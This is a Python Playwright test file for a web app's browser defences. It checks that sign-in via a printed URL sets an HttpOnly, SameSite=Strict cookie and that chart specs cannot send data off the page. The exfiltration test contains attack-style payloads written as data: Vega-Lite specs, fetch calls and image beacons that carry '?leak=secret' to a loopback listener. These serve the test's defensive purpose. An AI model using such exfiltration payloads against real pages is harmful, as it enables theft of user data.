"""The page's defences in real Chromium: sign-in through the printed URL (an HttpOnly, SameSite=Strict cookie
the page's script cannot read), and an exfiltrating chart spec that sends nothing off the page.

The exfiltration test answers the page's question itself (Playwright fulfils /api/chat/stream), as a
gateway without the server-side allow-list would: what stops the request is then the page's own loader
(inline data only) and its CSP (`connect-src 'self'`, `img-src 'self' data:`), and a listener on loopback
must receive nothing.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from gateway.signin import signin_url
from tests.browser.test_page import open_page
from tests.gateway.stacks import token_of
from tools.stack import Stack

pytestmark = [pytest.mark.browser, pytest.mark.slow]


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A loopback HTTP server that records every request it gets (there must be none)."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/csv")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"a,b\n1,2\n")

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()
    server.server_close()


def test_the_printed_url_signs_in_and_the_cookie_is_out_of_scripts_reach(
    browser: Any, browser_stack: Stack
) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(browser_stack.base_url + "/")
    page.wait_for_selector("#signin:not([hidden])", timeout=30_000)  # no cookie yet: the sign-in box
    assert page.locator("#workspace").is_hidden()
    token = token_of(browser_stack)
    page.goto(signin_url(browser_stack.base_url, token))  # the link `make run` prints
    page.wait_for_selector("#workspace:not([hidden])", timeout=30_000)
    assert token not in page.url  # the redirect dropped it from the address bar (and from history)
    cookie = next(c for c in context.cookies() if c["name"] == "insightx_auth")
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and token not in cookie["value"]
    assert "insightx_auth" not in page.evaluate("document.cookie")
    page.click("#signout")
    page.wait_for_selector("#signin:not([hidden])", timeout=30_000)
    page.fill("#signin-token", "wrong")
    page.click("#signin-form button")
    page.wait_for_selector("#signin-status .error-box", timeout=10_000)
    page.fill("#signin-token", token)  # pasting the token works as well
    page.click("#signin-form button")
    page.wait_for_selector("#workspace:not([hidden])", timeout=30_000)
    context.close()


def sse_answer(chart: dict[str, Any]) -> str:
    final = {
        "type": "final_response",
        "seq": 1,
        "data": {"text": "Here it is.", "answer": 2, "chart": chart, "follow_ups": [], "sql": None},
    }
    return f"retry: 3000\n\nid: 1\ndata: {json.dumps(final)}\n\n"


def answer_with(chart: dict[str, Any]) -> Any:
    """A route handler answering the question with `chart`, as a gateway without the allow-list would."""

    def fulfil(route: Any) -> None:
        route.fulfill(
            status=200,
            headers={"content-type": "text/event-stream", "x-chat-id": "c" * 32},
            body=sse_answer(chart),
        )

    return fulfil


def test_an_exfiltrating_chart_sends_nothing_off_the_page(
    browser: Any, browser_stack: Stack, listener: tuple[str, list[str]], tmp_path: Path
) -> None:
    url, seen = listener
    schema = "https://vega.github.io/schema/vega-lite/v5.json"
    charts = [
        {"$schema": schema, "data": {"url": f"{url}/exfil.csv?leak=secret"}, "mark": "bar",
         "encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}}},
        {"$schema": schema, "data": {"values": [{"u": f"{url}/pixel.png?leak=secret"}]}, "mark": "image",
         "encoding": {"url": {"field": "u", "type": "nominal"}}},
        {"$schema": schema, "data": {"values": [{"a": "x", "b": 1}, {"a": "y", "b": 2}]}, "mark": "bar",
         "usermeta": {"embedOptions": {"loader": {"baseURL": url}}},
         "encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}}},
    ]  # fmt: skip
    page = open_page(browser, browser_stack, 1024)
    console: list[str] = []
    page.on("console", lambda msg: console.append(msg.text))
    csv = tmp_path / "tiny.csv"
    csv.write_text("a,b\nx,1\ny,2\n")
    page.set_input_files("#file-input", str(csv))
    page.wait_for_selector("#profile:not([hidden])", timeout=60_000)
    for i, chart in enumerate(charts):
        page.route("**/api/chat/stream", answer_with(chart))
        page.fill("#question", f"chart {i}")
        page.click("#ask-button")
        # (locators, not wait_for_function: Playwright evaluates a string predicate, which the CSP refuses)
        page.locator(".answer.final").nth(i).wait_for(timeout=30_000)
        page.wait_for_timeout(1500)  # time for any load the chart would start
        page.unroute("**/api/chat/stream")
    # The page's CSP stops a script that tries anyway.
    page.evaluate(f"fetch('{url}/fetch?leak=secret').catch(() => null)")
    page.evaluate(f"new Image().src = '{url}/img?leak=secret'")
    page.wait_for_timeout(1000)
    assert seen == [], seen
    assert any("inline data" in line for line in console), console  # the page's loader refused the URL
    assert any("Content Security Policy" in line and "connect-src" in line for line in console), console
    first = page.locator(".chart").first
    assert first.locator(".mark-rect path").count() == 0  # no bar drawn from the URL's rows
    page.close()
